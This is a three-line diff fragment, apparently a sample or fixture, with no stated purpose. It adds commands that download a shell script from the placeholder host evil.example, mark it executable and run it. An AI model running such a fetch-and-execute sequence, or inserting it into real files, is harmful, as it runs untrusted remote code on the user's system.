@@ -1,0 +1,3 @@
+wget -O run.sh http://evil.example/run.sh
+chmod +x run.sh
+./run.sh
